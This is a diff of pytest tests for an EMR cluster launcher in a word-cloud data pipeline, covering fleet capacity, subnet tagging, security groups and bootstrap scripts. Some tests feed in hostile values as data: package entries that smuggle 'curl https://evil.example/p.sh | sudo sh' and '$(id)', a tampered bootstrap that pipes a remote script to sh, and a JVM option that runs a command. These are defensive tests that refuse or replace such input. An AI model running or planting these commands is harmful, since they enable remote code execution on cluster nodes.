@@ -2,18 +2,26 @@
 
 from __future__ import annotations
 
+import shlex
+
 import boto3
 import pytest
+from packaging.requirements import Requirement
 from sparknlp._maven import resolve_spark_nlp_coordinate
 
-from wordcloud_pipeline.resources.emr import steps
+from spark_scripts import spark_packages
+from wordcloud_pipeline.resources.emr import cluster as cluster_module
+from wordcloud_pipeline.resources.emr import job_flow, steps
 from wordcloud_pipeline.resources.emr.config import (
+    BOOTSTRAP_PACKAGES,
     ClusterConfig,
     EmrConfigError,
     FleetConfig,
     SparkSettings,
+    bootstrap_requirements,
     spark_nlp_coordinate,
 )
+from wordcloud_pipeline.resources.emr.job_flow import EMR_MANAGED_POLICY_TAG as EMR_TAG
 from wordcloud_pipeline.resources.emr.job_flow import bootstrap_script
 from wordcloud_pipeline.resources.spark_launcher import SparkJob
 from wordcloud_pipeline_tests.aws.conftest import emr_test_launcher, emr_test_resource
@@ -21,12 +29,24 @@ from wordcloud_pipeline_tests.aws.conftest import emr_test_launcher, emr_test_re
 RUN_ID = "0f1e2d3c-aaaa-bbbb-cccc-000000000001"
 
 
-def spot_task_config() -> ClusterConfig:
+def tagged_private_subnets(count: int = 2) -> list[str]:
+    """Subnets of a new VPC without an internet route, tagged as AmazonEMRServicePolicy_v2 requires."""
+    ec2 = boto3.client("ec2")
+    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
+    subnets = [
+        ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.20.{i}.0/24")["Subnet"]["SubnetId"]
+        for i in range(count)
+    ]
+    ec2.create_tags(Resources=subnets, Tags=[{"Key": k, "Value": v} for k, v in EMR_TAG.items()])
+    return subnets
+
+
+def spot_task_config(subnets: list[str]) -> ClusterConfig:
     return ClusterConfig(
         task_fleet=FleetConfig(
             instance_types={"m5.2xlarge": 1, "m5.4xlarge": 2, "r5.2xlarge": 1}, spot_units=8
         ),
-        subnet_ids=["subnet-0123", "subnet-4567"],
+        subnet_ids=subnets,
         master_security_group="sg-master",
         worker_security_group="sg-worker",
         service_access_security_group="sg-service",
@@ -36,7 +56,8 @@ def spot_task_config() -> ClusterConfig:
 
 
 def test_run_job_flow_request_as_sent(sent, bucket):
-    resource = emr_test_resource(cluster=spot_task_config())
+    subnets = tagged_private_subnets()
+    resource = emr_test_resource(cluster=spot_task_config(subnets))
     logged: list[str] = []
     cluster = resource.ensure_cluster(
         boto3.client("emr"), RUN_ID, f"s3://{bucket}/code/v1/bootstrap.sh", logged.append
@@ -49,9 +70,10 @@ def test_run_job_flow_request_as_sent(sent, bucket):
         1,
         0,
     )
+    # Core on-demand (it holds HDFS and YARN state), spot only on the task fleet.
     assert (fleets["CORE"]["TargetOnDemandCapacity"], fleets["CORE"]["TargetSpotCapacity"]) == (
         2,
-        4,
+        0,
     )
     assert (fleets["TASK"]["TargetOnDemandCapacity"], fleets["TASK"]["TargetSpotCapacity"]) == (
         0,
@@ -61,20 +83,24 @@ def test_run_job_flow_request_as_sent(sent, bucket):
         c["InstanceType"]: c["WeightedCapacity"] for c in fleets["CORE"]["InstanceTypeConfigs"]
     }
     assert weights == {"m5.2xlarge": 1, "m5a.2xlarge": 1, "m6i.2xlarge": 1, "m5.4xlarge": 2}
-    for role in ("CORE", "TASK"):
-        spot = fleets[role]["LaunchSpecifications"]["SpotSpecification"]
-        assert spot["AllocationStrategy"] == "capacity-optimized"
-        assert spot["TimeoutAction"] == "SWITCH_TO_ON_DEMAND"
+    spot = fleets["TASK"]["LaunchSpecifications"]["SpotSpecification"]
+    assert spot["AllocationStrategy"] == "capacity-optimized"
+    assert spot["TimeoutAction"] == "SWITCH_TO_ON_DEMAND"
     assert "SpotSpecification" not in fleets["MASTER"]["LaunchSpecifications"]
-    assert "OnDemandSpecification" not in fleets["TASK"]["LaunchSpecifications"]
+    assert "SpotSpecification" not in fleets["CORE"]["LaunchSpecifications"]
+    for fleet in fleets.values():
+        on_demand = fleet["LaunchSpecifications"]["OnDemandSpecification"]
+        assert on_demand["AllocationStrategy"] == "lowest-price"
     ebs = fleets["CORE"]["InstanceTypeConfigs"][0]["EbsConfiguration"]["EbsBlockDeviceConfigs"][0]
     assert ebs["VolumeSpecification"] == {"VolumeType": "gp3", "SizeInGB": 64}
 
     assert request["ReleaseLabel"] == "emr-7.12.0"
     assert request["AutoTerminationPolicy"] == {"IdleTimeout": 20 * 60}
     assert request["Instances"]["KeepJobFlowAliveWhenNoSteps"] is True
-    assert request["Instances"]["Ec2SubnetIds"] == ["subnet-0123", "subnet-4567"]
+    assert request["Instances"]["Ec2SubnetIds"] == subnets
     assert request["Instances"]["EmrManagedMasterSecurityGroup"] == "sg-master"
+    # Private subnets (no route to an internet gateway): EMR needs the service-access group.
+    assert request["Instances"]["ServiceAccessSecurityGroup"] == "sg-service"
     assert request["LogUri"] == f"s3://{bucket}/wordcloud/logs/emr/"
     assert request["BootstrapActions"] == [
         {
@@ -90,6 +116,7 @@ def test_run_job_flow_request_as_sent(sent, bucket):
     export = configurations["spark-env"]["Configurations"][0]
     assert export["Properties"]["PYSPARK_PYTHON"] == "/usr/bin/python3.11"
     assert "yarn-site" not in configurations  # EMR's per-type defaults apply
+    assert configurations["delta-defaults"]["Properties"] == {"delta.enabled": "true"}
     tags = {t["Key"]: t["Value"] for t in request["Tags"]}
     assert tags["dagster/run_id"] == RUN_ID
     assert tags["wordcloud:project"] == "wordcloud_pipeline"
@@ -220,3 +247,143 @@ def test_spark_submit_args_attach_spark_nlp_only_for_the_sparknlp_backend():
         "--metrics-out",
         "s3://b/m.json",
     ]
+
+
+# -- issue 13 / issue 10 item 5 ---------------------------------------------------------------------
+def test_bootstrap_installs_what_the_scripts_import_on_the_nodes():
+    script = bootstrap_script(bootstrap_requirements(ClusterConfig()))
+    pip_line = next(line for line in script.splitlines() if "pip install" in line)
+    installed = {Requirement(arg).name for arg in shlex.split(pip_line)[6:]}
+    # pyspark.ml imports numpy; the sparknlp backend imports sparknlp. pyspark itself is EMR's.
+    assert {"numpy", "spark-nlp"} <= installed
+    assert installed == {Requirement(p).name for p in BOOTSTRAP_PACKAGES}
+    assert "deltalake" not in installed and "pyarrow" not in installed
+
+
+@pytest.mark.parametrize(
+    "package",
+    [
+        "x; curl https://evil.example/p.sh | sudo sh",
+        "numpy $(id)",
+        "--index-url=http://x y",
+        "a @ https://x/a.whl",
+    ],
+)
+def test_python_packages_must_be_plain_requirements(package):
+    with pytest.raises(Exception, match="python_packages entry"):
+        ClusterConfig(python_packages=[package])
+    with pytest.raises(EmrConfigError):
+        bootstrap_script([package])
+
+
+def test_python_packages_are_shell_quoted_in_the_bootstrap(tmp_path):
+    script = bootstrap_script(["langdetect==1.0.9", "pandas>=2,<3"])
+    pip_line = next(line for line in script.splitlines() if "pip install" in line)
+    assert shlex.split(pip_line)[6:] == ["langdetect==1.0.9", "pandas<3,>=2"]
+    assert "'pandas<3,>=2'" in pip_line  # '<' and '>' would be redirections unquoted
+
+
+def test_a_tampered_bootstrap_in_s3_is_replaced(sent, bucket):
+    s3 = boto3.client("s3")
+    root = f"s3://{bucket}/wordcloud/code"
+    bootstrap = bootstrap_script(list(BOOTSTRAP_PACKAGES))
+    code = steps.ship_code(s3, root, bootstrap, lambda _: None)
+    key = f"wordcloud/code/{code.version}/bootstrap.sh"
+    s3.put_object(Bucket=bucket, Key=key, Body=b"#!/bin/bash\ncurl https://evil.example | sh\n")
+    logged: list[str] = []
+
+    again = steps.ship_code(s3, root, bootstrap, logged.append)
+
+    assert again == code
+    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == bootstrap.encode()
+    assert "replaced bootstrap.sh" in logged[0]
+    puts = sent.count("PutObject")
+    steps.ship_code(s3, root, bootstrap, lambda _: None)
+    assert sent.count("PutObject") == puts  # intact objects are not uploaded again
+
+
+def test_a_task_fleet_with_many_types_carries_allocation_strategies(sent, bucket):
+    many = {t: 1 for t in ("m5.2xlarge", "m5a.2xlarge", "m6i.2xlarge", "m5d.2xlarge", "m4.2xlarge")}
+    many["r5.2xlarge"] = 1
+    config = ClusterConfig(task_fleet=FleetConfig(instance_types=many))  # 0 units, 6 types
+    emr_test_resource(cluster=config).validate()
+    emr_test_resource(cluster=config).ensure_cluster(
+        boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
+    )
+    (request,) = sent.by_operation["RunJobFlow"]
+    task = next(
+        f for f in request["Instances"]["InstanceFleets"] if f["InstanceFleetType"] == "TASK"
+    )
+    assert len(task["InstanceTypeConfigs"]) == 6
+    assert task["LaunchSpecifications"]["SpotSpecification"]["AllocationStrategy"]
+    assert task["LaunchSpecifications"]["OnDemandSpecification"]["AllocationStrategy"]
+    # EMR's rule, applied to a request without strategies:
+    bare = {k: v for k, v in task.items() if k != "LaunchSpecifications"}
+    with pytest.raises(EmrConfigError, match="at most 5 without on-demand and spot allocation"):
+        job_flow.check_fleet_request(bare)
+
+
+def test_the_cluster_returned_by_run_job_flow_is_used_before_list_clusters_shows_it(
+    bucket, monkeypatch
+):
+    emr = boto3.client("emr")
+    # ListClusters is eventually consistent: right after RunJobFlow it may not list the new cluster.
+    monkeypatch.setattr(cluster_module, "run_clusters", lambda client, run_id: [])
+    cluster = emr_test_resource().ensure_cluster(emr, RUN_ID, "s3://b/boot.sh", lambda _: None)
+    assert emr.describe_cluster(ClusterId=cluster.id)["Cluster"]["Id"] == cluster.id
+
+
+def test_public_subnets_get_no_service_access_group(sent, bucket):
+    ec2 = boto3.client("ec2")
+    vpc = ec2.create_vpc(CidrBlock="10.30.0.0/16")["Vpc"]["VpcId"]
+    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.30.1.0/24")["Subnet"]["SubnetId"]
+    ec2.create_tags(Resources=[subnet], Tags=[{"Key": k, "Value": v} for k, v in EMR_TAG.items()])
+    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
+    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc)
+    table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
+    ec2.create_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway)
+    ec2.associate_route_table(RouteTableId=table, SubnetId=subnet)
+    groups = {"master_security_group": "sg-m", "worker_security_group": "sg-w"}
+
+    emr_test_resource(cluster=ClusterConfig(subnet_ids=[subnet], **groups)).ensure_cluster(
+        boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
+    )
+    (request,) = sent.by_operation["RunJobFlow"]
+    assert "ServiceAccessSecurityGroup" not in request["Instances"]
+    assert request["Instances"]["EmrManagedMasterSecurityGroup"] == "sg-m"
+
+    explicit = ClusterConfig(subnet_ids=[subnet], service_access_security_group="sg-s", **groups)
+    with pytest.raises(EmrConfigError, match="public subnets"):
+        emr_test_resource(cluster=explicit).cluster_request(RUN_ID, "s3://b/boot.sh")
+
+
+def test_untagged_subnets_are_refused_before_a_cluster_is_created(sent, bucket):
+    ec2 = boto3.client("ec2")
+    vpc = ec2.create_vpc(CidrBlock="10.40.0.0/16")["Vpc"]["VpcId"]
+    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.40.1.0/24")["Subnet"]["SubnetId"]
+    resource = emr_test_resource(cluster=ClusterConfig(subnet_ids=[subnet]))
+    with pytest.raises(EmrConfigError, match="for-use-with-amazon-emr-managed-policies=true"):
+        resource.ensure_cluster(boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None)
+    assert sent.count("RunJobFlow") == 0
+
+
+def test_every_step_carries_delta_settings_and_no_delta_package():
+    launcher = emr_test_launcher(spark_conf={"spark.sql.shuffle.partitions": "64"})
+    code = steps.ShippedCode("v1", "s3://b/c/v1/z.zip", "s3://b/c/v1/boot.sh", "s3://b/c/v1")
+    job = SparkJob("count_words", ["--input", "s3://b/i", "--output", "s3://b/o"], "count_words")
+    args = steps.spark_submit_args(
+        job, code, metrics_uri="s3://b/m", spark_conf=launcher.step_conf()
+    )
+    confs = {args[i + 1] for i, a in enumerate(args) if a == "--conf"}
+    for key, value in spark_packages.DELTA_CONF.items():
+        assert f"{key}={value}" in confs
+    assert "spark.sql.shuffle.partitions=64" in confs
+    assert "--packages" not in args  # EMR 7 has Delta's jar (delta-defaults), no Maven download
+
+
+def test_spark_conf_that_runs_a_command_is_refused_at_config_time():
+    attempt = {"spark.driver.extraJavaOptions": '-XX:OnOutOfMemoryError="touch /tmp/pwned"'}
+    with pytest.raises(
+        Exception, match="extraJavaOptions is refused: JVM options can run commands"
+    ):
+        emr_test_launcher(spark_conf=attempt)
